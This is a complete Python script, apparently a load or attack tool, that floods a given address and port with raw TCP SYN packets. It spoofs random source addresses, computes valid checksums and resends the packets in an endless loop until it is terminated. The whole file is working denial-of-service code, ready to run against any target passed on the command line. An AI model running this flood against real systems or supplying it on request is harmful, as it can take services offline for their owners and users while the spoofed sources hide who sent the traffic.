"""A flood of first SYNs from addresses that never answer, to one address and port, until it is stopped.

    syn_flood.py ADDRESS PORT

Every SYN has six bytes behind it, as Pktgen's have. Prints how many went out when it is terminated.
"""

import random
import signal
import socket
import struct
import sys

PACKETS = 8192


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(target, port):
    source = bytes([45, random.randrange(256), random.randrange(256), random.randrange(1, 255)])
    head = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), port, random.getrandbits(32), 0, 6 << 4, 2, 65535, 0, 0)
    segment = head + b"\x02\x04\x05\xb4" + b"flood!"
    pseudo = source + target + struct.pack("!BBH", 0, 6, len(segment))
    segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
    # The kernel fills in the header's checksum and length.
    return struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0x4000, 64, 6, 0) + source + target + segment


def main():
    address, port = sys.argv[1], int(sys.argv[2])
    packets = [syn(socket.inet_aton(address), port) for _ in range(PACKETS)]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
    sent = 0

    def stop(_signal, _frame):
        print(sent, flush=True)
        sys.exit(0)

    signal.signal(signal.SIGTERM, stop)
    while True:
        for packet in packets:
            try:
                raw.sendto(packet, (address, 0))
                sent += 1
            except OSError:
                pass


main()
